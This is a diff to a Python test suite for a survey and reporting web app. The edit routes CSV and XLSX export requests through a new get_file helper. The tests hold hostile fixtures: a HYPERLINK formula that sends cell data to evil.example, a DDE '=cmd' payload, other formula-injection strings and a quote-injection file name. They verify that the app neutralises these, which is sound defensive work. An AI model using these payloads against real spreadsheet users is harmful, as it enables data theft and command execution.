@@ -25,7 +25,7 @@ from bladi_cases.services.reports.indicators import Period
 from bladi_cases.services.surveys import surveys as survey_service
 from bladi_cases.services.surveys.xlsform import export_xlsform, parse_xlsform
 
-from .conftest import login
+from .conftest import get_file, login
 
 ROOT = Path(__file__).resolve().parent.parent
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -139,12 +139,12 @@ def test_survey_exports_through_the_routes_run_nothing(client, hostile_survey, m
     version, worker = hostile_survey()
     login(client, worker)
     survey = version.survey
-    xlsx = client.get(f"/surveys/{survey.uuid}/responses.xlsx?lang=en")
+    xlsx = get_file(client, f"/surveys/{survey.uuid}/responses.xlsx?lang=en")
     assert xlsx.status_code == 200
     values = _assert_no_formula(xlsx.data)
     assert "'" + HYPERLINK in values and "'+choose" in values and "'=1+1" in values
     assert -4 in values, "an integer answer stays a number"
-    text = client.get(f"/surveys/{survey.uuid}/responses.csv?lang=en")
+    text = get_file(client, f"/surveys/{survey.uuid}/responses.csv?lang=en")
     assert text.status_code == 200
     shown = _assert_csv_safe(text.data)
     assert "'" + HYPERLINK in shown and "'-2+3" in shown and "'@SUM(A1:A9)" in shown
@@ -165,12 +165,12 @@ def test_tracking_table_and_templates_run_nothing(client, make_user, make_site):
     make_site("BA", name="=cmd|' /C calc'!A0")
     db.session.commit()
     login(client, make_user(Role.DONOR, preferred_language="en"))
-    values = _assert_no_formula(client.get(f"/reports/exports/tracking-{YEAR}.xlsx").data)
+    values = _assert_no_formula(get_file(client, f"/reports/exports/tracking-{YEAR}.xlsx").data)
     assert "'" + HYPERLINK in values and "'\t=cmd" in values
-    shown = _assert_csv_safe(client.get(f"/reports/exports/tracking-{YEAR}.csv").data)
+    shown = _assert_csv_safe(get_file(client, f"/reports/exports/tracking-{YEAR}.csv").data)
     assert "'" + HYPERLINK in shown
-    _assert_csv_safe(b"".join(client.get(f"/reports/exports/microdata-{YEAR}.csv").response))
-    _assert_csv_safe(client.get("/reports/exports/microdata-dictionary.csv").data)
+    _assert_csv_safe(b"".join(get_file(client, f"/reports/exports/microdata-{YEAR}.csv").response))
+    _assert_csv_safe(get_file(client, "/reports/exports/microdata-dictionary.csv").data)
     login(client, make_user(Role.CSO_MANAGER, "BA", preferred_language="en"))
     template = client.get("/beneficiaries/import/template.xlsx")
     assert "'=cmd|' /C calc'!A0" in " / ".join(str(v) for v in _assert_no_formula(
@@ -195,7 +195,7 @@ def _filename(response) -> tuple[str, str | None]:
 def test_a_quote_in_a_form_id_cannot_rename_the_download(client, hostile_survey):
     version, worker = hostile_survey('evil.html"; x="')
     login(client, worker)
-    response = client.get(f"/surveys/{version.survey.uuid}/responses.csv")
+    response = get_file(client, f"/surveys/{version.survey.uuid}/responses.csv")
     assert response.status_code == 200
     plain, utf8 = _filename(response)
     assert plain == "evil.html__x__-responses.csv", plain
@@ -206,7 +206,7 @@ def test_an_arabic_form_id_downloads_with_its_name(client, hostile_survey, make_
     version, worker = hostile_survey("استبيان_الرفاه")
     login(client, worker)
     for fmt in ("csv", "xlsx"):
-        response = client.get(f"/surveys/{version.survey.uuid}/responses.{fmt}")
+        response = get_file(client, f"/surveys/{version.survey.uuid}/responses.{fmt}")
         assert response.status_code == 200
         plain, utf8 = _filename(response)
         assert utf8 == f"استبيان_الرفاه-responses.{fmt}" and plain == f"responses.{fmt}"
